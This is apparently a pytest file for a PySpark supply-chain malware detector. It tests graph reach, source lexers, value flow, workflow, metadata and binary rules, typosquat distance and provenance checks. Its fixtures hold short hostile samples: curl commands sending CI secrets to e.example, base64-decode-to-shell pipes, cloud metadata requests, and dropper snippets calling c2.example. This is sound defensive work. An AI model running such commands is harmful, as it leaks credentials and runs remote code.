"""Graphs, lexers, value flow, ladders, chains and provenance on cases by hand and by brute force."""

import random
from collections import deque
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from tarnwatch.operators import campaigns as C
from tarnwatch.operators import code_facts as X
from tarnwatch.operators import detectors as D
from tarnwatch.operators import provenance as P
from tarnwatch.operators import reach as R
from tarnwatch.operators import registry as G
from tarnwatch.operators import rules as U
from tarnwatch.operators import source_tokens as K
from tarnwatch.operators import value_flow as V
from tarnwatch.sources import manifests as MF

T0 = datetime(2024, 5, 1)


def test_blast_radius_against_breadth_first(spark):
    """Cycles, loops, repeated edges, nulls and nodes out of reach."""
    rng = random.Random(3)
    edges = [(f"p{rng.randint(0, 60)}", f"p{rng.randint(0, 60)}") for _ in range(110)] + [("p1", "p1"), ("p2", "p1"), ("p2", "p1"), (None, "p1"), ("p3", None)]
    bad, roots = ["p1", "p5", "absent", None], [f"p{k}" for k in range(0, 61, 2)] + ["p1", None]
    want = set()
    for b in bad[:2]:
        depth, todo = {b: 0}, deque([b])
        while todo:
            n = todo.popleft()
            for s, t in edges:
                if t == n and s is not None and s not in depth:
                    depth[s] = depth[n] + 1
                    todo.append(s)
        want |= {(r, b, depth[r]) for r in roots if r in depth}
    got = R.blast_radius(
        spark.createDataFrame(edges, "package string, dependency string"), spark.createDataFrame([(r,) for r in roots], "root string"), spark.createDataFrame([(b,) for b in bad], "package string"))
    assert {tuple(r) for r in got.collect()} == want


def test_blast_radius_of_many(spark, monkeypatch):
    """150 bad packages behind a ring of six: rounds write a row for 64 origins at a node, not one for each."""
    rows, write = [], R.written

    def counted(df, name):
        out = write(df, name)
        rows.append(out.count() if name == "reach" else 0)
        return out

    monkeypatch.setattr(R, "written", counted)
    bad = [k * 7 - 300 for k in range(150)]
    edges = [(10_000, b) for b in bad] + [(10_000 + (k + 1) % 6, 10_000 + k) for k in range(6)]
    e, b = spark.createDataFrame(edges, "package long, dependency long"), spark.createDataFrame([(x,) for x in bad], "package long")
    got = [tuple(r) for r in R.blast_radius(e, e.selectExpr("package AS root"), b).collect()]
    assert sorted(got) == sorted((10_000 + k, x, k + 1) for k in range(6) for x in bad)
    assert sum(rows) <= 150 + 6 * 3
    assert R.blast_radius(e, e.selectExpr("package AS root"), b.limit(0)).count() == 0


def test_sets_are_what_is_reached(spark):
    """Origins with several nodes, equal nodes of several origins, strings, repeats and nulls."""
    rng = random.Random(5)
    edges = [(f"n{rng.randint(0, 90)}", f"n{rng.randint(0, 90)}") for _ in range(120)] + [(None, "n1"), ("n1", None)]
    start = [(f"o{rng.randint(0, 99)}", f"n{rng.randint(0, 95)}") for _ in range(200)] + [("o1", "n1"), ("o1", "n1"), (None, "n1"), ("o2", None)]
    e, s = spark.createDataFrame(edges, "source string, target string"), spark.createDataFrame(start, "origin string, node string")
    got, want = R.each_origin(*R.reached_sets(e, s)), R.reached(e, s)
    assert got.columns == want.columns
    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, want.collect()))


def test_reach_of_nothing(spark):
    e, s = spark.createDataFrame([], "source string, target string"), spark.createDataFrame([("o", "n")], "origin string, node string")
    assert [tuple(r) for r in R.reached(e, s).collect()] == [("o", "n", 0)]
    assert R.reached(e, s.limit(0)).count() == 0


GYP = """{
  'variables': { 'x%': 1, },
  'targets': [ {
    'target_name': 'a', # 'no': [
    'sources': ['<!(node x.js)', 'b.cc'],
    'libraries': ['-lcurl', "-L/tmp"],
    'conditions': [ ['OS=="win"', { 'defines': ['-DX=system'] }],
    ],
    'includes': ['c.gypi'],
  } ]
}"""


def test_gyp_rows(spark):
    rows = K.gyp_rows(spark.createDataFrame([(1, GYP), (2, None), (3, ""), (4, "]]]\n'a': 1")], "id int, content string"), "id").collect()
    got = {(r.id, r.line, r.kind, r.value, r.path) for r in rows}
    inside = "-/targets/-"
    assert {(1, 5, "shell", "node x.js", inside), (1, 6, "linker", "-lcurl", inside), (1, 6, "linker", "-L/tmp", inside), (1, 7, "macro", "X=system", inside), (1, 9, "include", "c.gypi", inside)} <= got
    assert (1, 3, "targets", "", "-") in got and (1, 2, "variable", "variables", "-") in got and (4, 2, "variable", "a", "") in got
    assert len(got) == 15


PY = "import x\n@dec\ndef a(request):\n    p = request.url.path\n    q = request.scope['path']\n\n# c\nx = request.url.path; y = req.url.path\nasync def b(r):\n\treturn self.request.url.path\n"


def test_python_functions_are_intervals(spark):
    files = spark.createDataFrame([("auth/x.py", PY), ("lib/y.py", PY), ("z.txt", PY), ("n.py", None), ("lib/e.py", "")], "path string, content string")
    got = sorted((r.path, r.line, r.no, r.severity) for r in K.unsafe_path_checks(files).collect())
    assert got == sorted([(p, line, no, s) for p, s in (("auth/x.py", "medium"), ("lib/y.py", "info")) for line, no in ((8, 1), (8, 2), (10, 1))])


ARRAY = "['616263', '646566', '676869', '6a6b6c', '6d6e6f', '707172', '737475', '767778', '616263']"
FLOWS = {
    1: (f"const parts = {ARRAY};\nlet d = atob(parts[0]);\neval(d);\n", {"array", "decoder", "sink"}),
    2: (f"const parts = {ARRAY};\nlet d = atob(other[0]);\neval(z);", {"sink"}),
    3: (f"function f() {{ const parts = {ARRAY}; }}\nlet d = atob(parts[0]);\neval(d)", {"decoder", "sink"}),
    4: ("dns.resolveTxt('a', (e, r) => {\n  const c = atob(r[0]);\n  eval(c);\n});", {"decoder", "sink", "txt"}),
    5: (f"const parts = {ARRAY};\n{{ const parts = 1; go(parts); }}\neval(atob(parts))", {"array", "decoder", "sink"}),
    6: (f"const parts = {ARRAY};\nf(parts => 1);\nf(function (parts) {{ go(parts); }});\neval(parts)", {"sink"}),
    7: (f"const parts = {ARRAY};\nf((parts) => {{ go(parts); }});\neval(parts)", {"array", "sink"}),
    8: (f"const parts = {ARRAY};\nfunction f(parts) {{ eval(parts); }}", {"sink"}),
    9: (f"let a = {ARRAY}; let b = a; let c = b; b = 1; eval(c)", {"array", "sink"}),
    10: (f"let a = {ARRAY}; a = 1; eval(a)", {"sink"}),
    11: (f"x.a = 1; const a = {ARRAY}; // eval(a)\n/* eval(a) */ eval(o.a)", {"sink"}),
}


def test_values_reach_calls(spark):
    """What comes to the last statement that executes something: through names, blocks, parameters and later values."""
    df = spark.createDataFrame([(i, t) for i, (t, _) in FLOWS.items()] + [(90, None), (91, ""), (92, "}}) eval(a"), (93, "'" * 9)], "id int, content string")
    rows = V.reaches(df, X.FLOW_MARKS, "id").where("array_contains(marks, 'sink')").collect()
    last = {r.id: set(r.reached) for r in sorted(rows, key=lambda r: r.stmt)}
    # An arrow without curly brackets keeps its parameter to the end of the block: case 6 loses the array by that.
    assert {i: last[i] for i in FLOWS} == {i: w for i, (_, w) in FLOWS.items()}


def test_dropper_by_flow(spark):
    df = spark.createDataFrame([(i, f"p{i}", "a.js", t) for i, (t, _) in FLOWS.items()], "id int, package string, path string, content string")
    got = {r.package: set(r.signals) for r in X.dropper_flows(df).collect()}
    assert got["p4"] == {"dns_payload_assembly", "dns_txt_oob"}
    assert "string_array_decoder" in got["p1"] and "string_array_decoder" not in got["p2"]


def test_long_arrays_and_chains_take_no_stack(spark):
    """A million strings, a long dotted host, hex without end: patterns that repeat groups stay off the stack."""
    array = "const a = [" + ",".join(["'616263'"] * 1_000_000) + "];"
    texts = [("p", "a.js", array), ("q", "a.js", "fetch('https://" + "a." * 60_000 + "b')"), ("r", "a.js", "0xab" * 50_000 + " session"), ("s", "a.js", "function f() {" + "x;" * 100_000 + "}")]
    f = spark.createDataFrame(texts, "package string, path string, content string")
    none = spark.createDataFrame([], "package string, scripts map<string,string>")
    assert {r.package: r.signals for r in X.dropper(f, none).collect()}["p"] == ["encoded_string_array"]
    assert {r.package for r in U.encrypted_c2(f).collect()} == {"r"}
    assert X.function_bodies(f.withColumn("version", F.lit("1"))).count() == 1
    few = spark.createDataFrame([("seven", "a.js", "['" + "','".join(["616263"] * 7) + "',]"), ("eight", "a.js", "['" + "','".join(["616263"] * 8) + "',]")], "package string, path string, content string")
    assert [r.package for r in X.dropper(few, none).collect()] == ["eight"]


def test_metadata_services(spark):
    texts = {
        "gcp": "get computeMetadata/v1/token", "gcp2": "metadata.google.internal", "path": "http://169.254.169.254/metadata/identity/oauth2", "near": "Metadata : TRUE\n1\n2\n3\n4\n169.254.169.254", "same": "curl 169.254.169.254 -H Metadata:true",
        "far": "169.254.169.254\n1\n2\n3\n4\n5\nMetadata: true", "flavor": "169.254.169.254\nMetadata-Flavor: Google", "equals": "169.254.169.254 Metadata=true", "both": "metadata.google.internal 169.254.169.254/metadata/instance", "none": None,
    }
    got = {r.package: (r.score, r.subtype) for r in U.cloud_metadata(spark.createDataFrame(list(texts.items()), "package string, content string")).collect()}
    assert got == {"gcp": (82, "gcp_metadata"), "gcp2": (82, "gcp_metadata"), "path": (82, "azure_imds"), "near": (82, "azure_imds"), "same": (82, "azure_imds"), "both": (92, "multi_cloud_imds")}


def test_binaries(spark):
    rows = [
        ("a", "bin/tool", None), ("a", "x.node", None), ("b", "native/x", bytes.fromhex("7f454c46")), ("c", "lib/t-linux-x64", bytes.fromhex("7f454c46")), ("c", "lib/t-darwin-arm64", bytes.fromhex("feedface")), ("c", "m.wasm", bytes.fromhex("0061736d")),
        ("esbuild", "bin/esbuild", b"MZ.."), ("d", "lib/a.js", b"#!"), ("d", "Python3.sh", b""), ("known", "bin/x", b"MZ.."), ("e", "bin/cli", None), ("f", "build/z.node", None),
    ]
    f = spark.createDataFrame(rows, "package string, path string, bytes binary")
    m = spark.createDataFrame([("e", None, ["./bin/cli"], None, None), ("f", None, None, None, True), ("a", "tool", None, None, False)], "package string, bin_name string, bin array<string>, optional array<string>, gyp boolean")
    code = spark.createDataFrame([("f", "spawn ('x')"), ("e", "respawn")], "package string, content string")
    got = {(r.package, r.path): (r.score, r.subtype, r.severity) for r in D.binary_embed(f, m, code, spark.createDataFrame([("known",)], "name string")).collect()}
    assert got == {
        ("a", "bin/tool"): (75, "magic_byte_unknown", "high"), ("a", "x.node"): (100, "magic_byte_unknown", "critical"), ("b", "native/x"): (100, "elf_embedded", "critical"), ("c", "lib/t-linux-x64"): (100, "cross_platform_elf", "critical"),
        ("c", "lib/t-darwin-arm64"): (100, "cross_platform_mach-o", "critical"), ("c", "m.wasm"): (100, "wasm_embedded", "critical"), ("d", "Python3.sh"): (100, "magic_byte_unknown", "critical"), ("e", "bin/cli"): (75, "magic_byte_unknown", "high"),
        ("f", "build/z.node"): (85, "magic_byte_unknown", "high"),
    }


def test_activation(spark):
    want = {"*": "critical", "onStartupFinished": "high", "onStartup": None, "workspaceContains": "high", "workspaceContains:foo": None, "workspaceContains:*.py": "high", "onCommand:*": "low", "onCommand:a*": "high", "onCommand:x": None, "onLanguage:js": None}
    df = spark.createDataFrame([(e,) for e in want], "e string")
    assert {r.e: r.s for r in df.select("e", G.activation_severity(F.col("e")).alias("s")).collect()} == want


def test_activation_risk(spark):
    row = lambda e, v, size, events, titles=None, bundled=None: (e, v, T0 + timedelta(days=int(v)), size, events, titles, bundled)
    rows = [
        row("words", "1", 10, ["onCommand:*"], ["Run Curl"]), row("jump", "1", 1000, ["onStartupFinished"]), row("jump", "2", 900_000, ["onStartupFinished"]), row("fresh", "1", 1, ["onCommand:*"]), row("fresh", "2", 1, ["onCommand:*", "workspaceContains"]),
        row("plain", "1", 1, ["onStartupFinished"]), row("low", "1", 1, ["onCommand:*"]), row("low", "2", 1, ["onCommand:*", "onView"]), row("none", "1", 1, ["onView"], ["exec"]), row("null", "1", None, None), row("bun", "1", 1, ["*"], None, ["bun"]),
    ]
    got = {(r.extension, r.version): (r.risk, r.why) for r in G.activation_risk(spark.createDataFrame(rows, "extension string, version string, published_at timestamp, asset_size long, activation_events array<string>, titles array<string>, bundled array<string>")).collect()}
    assert got == {
        ("words", "1"): ("critical", "execution_words"), ("jump", "1"): ("high", ""), ("jump", "2"): ("critical", "size_jump"), ("fresh", "1"): ("low", ""), ("fresh", "2"): ("critical", "first_event"), ("plain", "1"): ("high", ""),
        ("low", "1"): ("low", ""), ("low", "2"): ("low", "first_event"), ("bun", "1"): ("critical", "execution_words"),
    }


def test_model_references(spark):
    texts = ["https://huggingface.co/opnai/whisper/resolve", "hf.co/a/b'", "from_pretrained( 'c/d')", "hub.download('e/f')", "hub.download('g', 'h')", "hf_hub_download('i/j')", "from_pretrained('plain')", None]
    got = {(r.org, r.model) for r in G.model_references(spark.createDataFrame([("p", t) for t in texts], "package string, content string")).collect()}
    assert got == {("opnai", "whisper"), ("a", "b"), ("c", "d"), ("e", "f"), ("g", "h")}


def test_workflow_exfiltration(spark):
    steps = {
        "send": ("curl https://e.example -d ${{ secrets.A }}", {}), "env": ("curl -s http://e.example", {"A": "${{ secrets.A }}"}), "forge": ("curl https://github.com/x -d ${{ secrets.A }}", {}), "wget": ("wget https://e.example ${{ secrets.A }}", {}),
        "token": ("curl https://e.example $TOKEN", {}), "decode": ("echo x | base64 -d | bash", {}), "long": ("base64 --decode | sh", {}), "null": (None, None),
    }
    df = spark.createDataFrame([(p, r, e) for p, (r, e) in steps.items()] * 2, "path string, run string, env map<string,string>")
    assert sorted(map(tuple, MF.workflow_exfiltration(df).collect())) == [("decode", "decode_chain"), ("env", "secret_exfiltration"), ("send", "secret_exfiltration")]


def test_workflow_exfiltration_reads_files_and_names_steps(spark, tmp_path):
    """Every step that sends or decodes has a row with its job and place: steps that run nothing count, a job's secret
    holds for its steps, what is no YAML is read as text, files elsewhere are none. Its SQL says the same, nulls too."""
    import duckdb

    from tarnwatch.plans import mechanism_queries as Q

    send, plain, decode, bare, env = 0, 2, 3, 7, 1  # places in RUNS and ENVS
    rows = [(52, send, 0, 1), (52, send, 0, 2), (52, bare, 0, 3), (52, decode, 0, 6), (1, bare, 0, 3), (5, plain, 0, 1), (5, bare, env, 2), (5, decode, 0, 4), (16, None, 0, 1), (16, send, None, 1), (None, decode, env, None)]
    spark.createDataFrame(rows, "l_orderkey long, l_partkey long, l_suppkey long, l_linenumber int").write.parquet(str(tmp_path / "lineitem.parquet"))
    df = Q.QUERIES["workflow_exfiltration"](spark, str(tmp_path))
    assert df.columns == ["path", "job", "step", "kind"]
    at = lambda o, name="ci.yml": f"r{o}/.github/workflows/{name}"
    want = {
        (at(52), "build", 1, "secret_exfiltration"), (at(52), "build", 2, "secret_exfiltration"), (at(52), "deploy", 1, "secret_exfiltration"), (at(52), "deploy", 2, "decode_chain"),
        (at(5), "build", 2, "secret_exfiltration"), (at(5), "build", 3, "decode_chain"), (at(5, "old.yaml"), None, 2, "decode_chain"), (at(16), "build", 2, "secret_exfiltration"),
        (at(16, "old.yaml"), None, 0, "secret_exfiltration"), (at(""), "build", 1, "decode_chain"),
    }
    got = list(map(tuple, df.collect()))
    assert len(got) == len(want) and set(got) == want
    con = duckdb.connect()
    con.execute(f"CREATE VIEW lineitem AS SELECT * FROM '{tmp_path}/lineitem.parquet/*.parquet'")
    told = con.execute(Q.ORACLE["workflow_exfiltration"]).fetchall()
    assert len(told) == len(want) and set(told) == want


def test_exfiltrating_steps_that_do_both(spark):
    s = spark.createDataFrame([("p", "j", 4, "base64 -d | sh; curl http://e.example", {"A": "${{ secrets.A }}"}), ("p", None, 0, None, None)], "path string, job string, step int, run string, env map<string,string>")
    assert sorted(map(tuple, MF.exfiltrating_steps(s).collect())) == [("p", "j", 4, "decode_chain"), ("p", "j", 4, "secret_exfiltration")]


def test_workflow_steps_of_odd_files(spark):
    """Files nested too deeply, with dates that are none, or built otherwise after some steps: run lines alone, each once."""
    run = "jobs:\n  t:\n    steps:\n      - run: npm ci\n"
    texts = {"deep": run + "x: " + "[" * 100_000 + "]" * 100_000, "date": run + "x: 2024-13-45\n", "half": run + "      - {run: b, env: [c]}\n      - run: d\n", "good": run + "        env: {A: b}\n", "none": None}
    df = spark.createDataFrame([(f"{n}/.github/workflows/a.yml", t) for n, t in texts.items()], "path string, content string")
    got = sorted((r.path.split("/")[0], r.job or "", r.step, r.run, r.env) for r in MF.workflow_steps(df).collect())
    assert got == [("date", "", 0, "npm ci", {}), ("deep", "", 0, "npm ci", {}), ("good", "t", 0, "npm ci", {"A": "b"}), ("half", "", 0, "npm ci", {}), ("half", "", 1, "d", {})]


def test_campaign_signs_keep_to_their_version(spark):
    """A file of one version marks that version; files without a version mark all."""
    p = spark.createDataFrame([("a", "1", {}), ("a", "2", {"postinstall": "spawn('x', {detached: true})"}), ("b", "1", None)], "package string, version string, scripts map<string,string>")
    f = spark.createDataFrame([("a", "1", "i.js", "require('ctf-scramble-v2')"), ("a", "2", "i.js", "plain"), ("b", "1", "i.js", None)], "package string, version string, path string, content string")
    hits = lambda files: {(r.package, r.version, r.rule) for r in C.scrambled_worm(p, files).collect()}
    assert hits(f) == {("a", "1", "D1"), ("a", "2", "D2")}
    assert hits(f.drop("version")) == {("a", "1", "D1"), ("a", "2", "D1"), ("a", "2", "D2")}


def test_campaigns_scan_contents_once(spark, tmp_path):
    """One scan of the files for all rules of a campaign."""
    p = spark.createDataFrame([("a", "1", "x", {}, {}, T0, 1)], "package string, version string, publisher string, scripts map<string,string>, dependencies map<string,string>, first_published timestamp, versions int")
    spark.createDataFrame([("a", "i.js", "x")], "package string, path string, content string").write.parquet(str(tmp_path / "f"))
    files = spark.read.parquet(str(tmp_path / "f"))
    for rule in (C.scrambled_worm, lambda a, b: C.trapdoor(a, b, "2024-06-01"), C.hijacked_module):
        plan = rule(p, files)._jdf.queryExecution().optimizedPlan().toString()
        assert plan.count("Relation [package#") + plan.count("Relation[package#") == 1


def test_planted_payloads(spark):
    """The ladder over hooks and files together; no hook, no code or no binary plants nothing."""
    hook = {"install": "node a.js"}
    p = spark.createDataFrame([(n, "1", hook if n != "free" else {"test": "x"}) for n in ("rat", "back", "stay", "free", "code", "none")], "package string, version string, scripts map<string,string>")
    drop = "writeFile('x.exe', b); exec('x');"
    f = [("rat", drop + "os.tmpdir(); get('https://c2.example')"), ("back", drop + "get('https://c2.example')"), ("stay", drop + "systemctl enable x"), ("free", drop + "get('https://c2.example')"), ("code", "plain"), ("none", None)]
    got = {r.package: (r.payload, r.platforms) for r in C.planted_payloads(p, spark.createDataFrame([(n, "a.js", c) for n, c in f], "package string, path string, content string")).collect()}
    assert got == {"rat": ("cross_platform_rat", "linux,macos,windows"), "back": ("network_backdoor", ""), "stay": ("platform_persistence", "linux")}


def test_bad_host_tiers(spark):
    rows = [
        ("one", 1, "mcp", None, None), ("one", 2, "vllm", "==", "0.1"), ("one", 3, "fastapi", None, None), ("pinned", 1, "fastapi", None, None), ("pinned", 2, "starlette", "==", "1.0.1"), ("loose", 1, "starlette", None, None), ("loose", 2, "fastapi", "==", "0.115.9"),
        ("safe", 1, "fastapi", "==", "0.116.0"), ("safe", 2, "langserve", ">=", "1"), ("range", 1, "vllm", "~=", "1"), ("null", 1, None, None, None),
    ]
    got = {r.project: (r.package, r.tier) for r in C.bad_host_tiers(spark.createDataFrame(rows, "project string, line int, name string, operator string, version string")).collect()}
    assert got == {"one": ("vllm", 1), "loose": ("fastapi", 1), "safe": ("langserve", 2)}


def test_extension_and_signal_roll_up(spark):
    f = [(1, "get('https://api.github.com/repos/a/b/git/commits/" + "a1" * 20 + "')"), (2, "// setup\nfetch('https://collect.example/x')"), (2, "~/.npmrc"), (3, "// setup\nfetch('https://github.com/x')"), (4, None), (5, "setup")]
    s = C.extension_files(spark.createDataFrame(f, "extension int, content string"))
    assert sorted(map(tuple, s.collect())) == [(1, "orphan_commit"), (2, "exfiltration"), (2, "orphan_commit")]
    more = spark.createDataFrame([(2, "burst"), (6, "activation"), (7, "unknown"), (None, "burst")], "extension int, signal string")
    assert {r.extension: (r.signals, r.severity) for r in C.signal_campaign(s.unionByName(more)).collect()} == {
        1: ("orphan_commit", "critical"), 2: ("burst,exfiltration,orphan_commit", "critical"), 6: ("activation", "high"), None: ("burst", "high"),
    }


def test_rescans_read_what_changed(spark, tmp_path):
    """Two snapshots give what a whole scan of the second gives; only the changed package was read; a snapshot again changes nothing."""
    from tarnwatch.streaming import rescan as RS

    schema = "package string, n long"
    scan = lambda f: f.groupBy("package").agg(F.sum(F.length("content")).alias("n"))
    one = spark.createDataFrame([("a", "x", "12"), ("a", "y", None), ("b", "x", "123"), ("gone", "x", "1"), (None, "x", "1")], "package string, path string, content string")
    two = spark.createDataFrame([("a", "y", None), ("a", "x", "12"), ("b", "x", "1234"), ("new", "x", "")], "package string, path string, content string")
    at = str(tmp_path / "r")
    assert RS.latest(spark, at, "findings", schema).count() == 0
    for k, snapshot in enumerate((one, two, two)):
        RS.take(snapshot, min(k, 1), at, scan, schema)
    got = sorted(map(tuple, RS.latest(spark, at, "findings", f"{schema}, scanned_in long").collect()))
    assert got == [("a", 2, 0), ("b", 4, 1), ("new", 0, 1)]
    assert {r.snapshot: (r.files, r.packages) for n in (0, 1) for r in spark.read.parquet(f"{at}/read/snapshot={n}").collect()} == {0: (4, 3), 1: (2, 2)}


def test_rescans_of_a_stream(spark, tmp_path):
    from tarnwatch.streaming import rescan as RS

    schema, scan = "package string, n long", lambda f: f.groupBy("package").agg(F.count("*").alias("n"))
    for k, rows in enumerate(([("a", "x", "1"), ("b", "x", "1")], [("a", "x", "1"), ("b", "x", "2")])):
        spark.createDataFrame(rows, "package string, path string, content string").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
        stream = spark.readStream.schema("package string, path string, content string").option("maxFilesPerTrigger", 1).parquet(str(tmp_path / "in"))
        RS.rescans(stream, str(tmp_path / "r"), scan, schema)
        assert RS.committed(spark, str(tmp_path / "r")) == k
    assert sorted(map(tuple, RS.latest(spark, str(tmp_path / "r"), "findings", f"{schema}, scanned_in long").collect())) == [("a", 1, 0), ("b", 1, 1)]


def test_lookalike_dependencies(spark):
    from tarnwatch.operators import similarity as M

    deps = ["lodahs", "reduc", "redux", "rea", "pgg", "expres", "mocha1", "far-away", None, "moch"]
    got = {r.dependency: (r.target, r.distance) for r in M.lookalike_dependencies(spark.createDataFrame([("p", d) for d in deps], "package string, dependency string")).collect()}
    want = {}
    for d in filter(None, deps):
        for t in M.TOP_NAMES if len(d) >= 4 else []:
            row = list(range(len(t) + 1))
            for i, a in enumerate(d, 1):
                row = _edit_row(row, a, t, i)
            if 1 <= row[-1] <= 2:
                want[d] = (t, row[-1])
                break
    assert got == want and got["reduc"][0] in ("redis", "redux")
    found = M.lockfile_lookalikes(spark.createDataFrame([("l", n) for n in ("Lodash", "axio", "webpakk", "vu3", None)], "path string, name string"))
    assert sorted((r.name, r.spelling) for r in found.collect()) == [("Lodash", "lodash"), ("axio", "axios"), ("vu3", "vue")]


def test_near_names_of_any_length(spark):
    """All pairs within two edits, of names of 0 to 60 characters, and few keys for long ones."""
    from tarnwatch.operators import similarity as M

    rng = random.Random(6)
    targets = ["".join(rng.choice("ab") for _ in range(n)) for n in (1, 2, 5, 9, 10, 11, 12, 13, 14, 20, 33, 60)]
    names = ["", "b"]
    for t in targets:
        for _ in range(25):
            s = list(t)
            for _ in range(rng.randint(0, 3)):
                at, what = rng.randint(0, len(s)), rng.randint(0, 2)
                s[at : at + (what != 0)] = [] if what == 1 else [rng.choice("abc")]
            names.append("".join(s))
    want = set()
    for n in set(names):
        for t in targets:
            row = list(range(len(t) + 1))
            for i, a in enumerate(n, 1):
                row = _edit_row(row, a, t, i)
            if 1 <= row[-1] <= 2:
                want.add((n, t, row[-1]))
    got = M.near_names(spark.createDataFrame([(n,) for n in names] + [(None,)], "name string"), spark.createDataFrame(list(enumerate(targets)), "ordinal int, target string"))
    assert {(r.name, r.target, r.distance) for r in got.collect()} == want
    long = spark.range(1).select(F.repeat(F.lit("ab"), 5_000).alias("name"))
    assert M.near_names(long, spark.createDataFrame([(0, "ab" * 4_999 + "a")], "ordinal int, target string")).count() == 1


def test_reputable_names_are_left_out(spark):
    from tarnwatch.operators import windows as W

    known = spark.createDataFrame([("p",)], "name string")
    v = spark.createDataFrame([(n, T0 + timedelta(minutes=k), k, k) for n in "pq" for k in range(9)], "package string, at timestamp, ma int, mi int")
    assert [r.package for r in W.backfill_span(v, "package", "at", F.col("ma"), F.col("mi"), reputable=known).collect()] == ["q"]
    f = spark.createDataFrame([(n, "eval(a.charCodeAt(0) ^ 1); Function(x); " * 9) for n in "pq"], "package string, content string")
    assert [r.package for r in D.obfuscation(f, "package", "content", least=10, reputable=known).collect()] == ["q"]


def _edit_row(before, a, t, i):
    """The next row of the table of edit distances."""
    row = [i]
    for j, b in enumerate(t, 1):
        row.append(min(before[j] + 1, row[j - 1] + 1, before[j - 1] + (a != b)))
    return row


def test_severity_ladders(spark):
    df = spark.createDataFrame([("TIER1-BINARY-EMBED", 90), ("TIER1-BINARY-EMBED", 89), ("TIER1-BINARY-EMBED", 0), ("TIER1-BINARY-EMBED", -1), ("none", 50), (None, 50), ("D14-BUILD-CONFIG-ABUSE", None)], "detector string, score int")
    assert [r.severity for r in P.with_severity(df, P.ladders(spark)).collect()] == ["critical", "high", "medium", None, None, None, None]


def test_attestations(spark):
    at = lambda s: T0 + timedelta(seconds=s)
    v = spark.createDataFrame([("p", str(k), at(k * 1000)) for k in range(1, 7)] + [("q", "1", at(0)), (None, None, None)], "package string, version string, published_at timestamp")
    a = [("p", "3", at(3059), "https://github.com/x"), ("p", "4", at(4060), None), ("p", "5", at(4990), "https://odd.example"), ("q", "1", at(0), "https://gitlab.com/x"), ("r", "1", at(0), None)]
    got = {(r.package, r.version, r.kind, r.gap_ms) for r in P.attestation_anomalies(v, spark.createDataFrame(a, "package string, version string, attested_at timestamp, builder string")).collect()}
    assert got == {("p", "3", "sub_minute", 59_000), ("p", "3", "first_attested", None), ("p", "5", "unknown_builder", None), ("q", "1", "sub_minute", 0)}


def test_hook_chains(spark):
    p = spark.createDataFrame([("a", {"postinstall": "node ./s/run.js", "test": "node s/run.js"}), ("b", {"install": "node run.js && x"}), ("c", {"prepare": "sh go.sh"}), ("known", {"install": "node i.js"})], "package string, scripts map<string,string>")
    f = [
        ("a", "p/s/run.js", "require('./far'); require('./lib/next.js'); fetch(x)"), ("a", "lib/next.js", "eval(x)"), ("a", "far", "nothing"), ("b", "run.js", "eval(x)"), ("c", "go.sh", "curl https://x.vercel.app/y"), ("known", "i.js", "eval(x)"),
    ]
    got = {r.package: (r.hook, r.path, r.score, r.severity, r.chain, r.worst) for r in P.hook_chains(p, spark.createDataFrame(f, "package string, path string, content string"), spark.createDataFrame([("known",)], "name string")).collect()}
    assert got == {"a": ("postinstall", "p/s/run.js", 65, "medium", "./s/run.js>lib/next.js", 90), "c": ("prepare", "go.sh", 85, "high", "go.sh", 85)}


def test_capability_desync(spark):
    p = spark.createDataFrame([("gain", {}, None), ("run", {"install": "node ./r.js"}, None), ("same", {}, None), ("none", {}, None), ("new", {}, ["b.js"]), ("built", {}, None)], "package string, scripts map<string,string>, bin array<string>")
    t = [("gain", "a.js", "x; fetch('y')"), ("run", "r.js", "y = 2"), ("same", "a.js", "x \r\ny"), ("none", "a.js", "x"), ("new", "b.js", "plain"), ("new", "c.js", "plain"), ("built", "dist/a.js", "eval(x)"), ("built", "readme", "eval(x)")]
    s = [("gain", "a.js", "x;"), ("run", "r.js", "y = 1"), ("same", "a.js", "x\ny"), ("new", "z.js", ""), ("built", "k.js", "")]
    kind = "package string, path string, content string"
    got = {r.package: (r.score, r.severity, r.status, r.kinds, r.capabilities) for r in P.capability_desync(p, spark.createDataFrame(t, kind), spark.createDataFrame(s, kind)).collect()}
    assert got == {
        "gain": (95, "critical", "desync", "sensitive_nodes_added", "network"), "run": (75, "high", "desync", "executable_modified", ""), "none": (15, "low", "unverifiable", "", ""), "new": (95, "critical", "desync", "absent_from_source", ""),
    }


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_first_burst_in_any_order(seed):
    """Decided as a watermark passes, in batches of any order within it, equal to the rule over all events."""
    from tarnwatch.streaming.anchored import first_burst

    rng = random.Random(seed)
    for _ in range(60):
        times = sorted(rng.randint(0, 400) for _ in range(rng.randint(0, 30)))
        within, least, late = rng.choice([5, 20, 60]), rng.choice([2, 3, 4]), 50
        want = next(((t, n) for t in times if (n := sum(t <= x <= t + within for x in times)) >= least), None)
        arrive = sorted(times, key=lambda t: t + rng.randint(0, late))
        held, found, mark = [], None, 0
        for k in range(0, len(arrive) + 1, 3):
            if found is None:
                start, n, held = first_burst(sorted([*held, *arrive[k : k + 3]]), within, least, mark)
                found = (start, n) if start is not None else None
            mark = max(mark, max(arrive[k : k + 3], default=0) - late)
        if found is None:
            start, n, _ = first_burst(sorted(held), within, least, 10**9)
            found = (start, n) if start is not None else None
        assert found == want
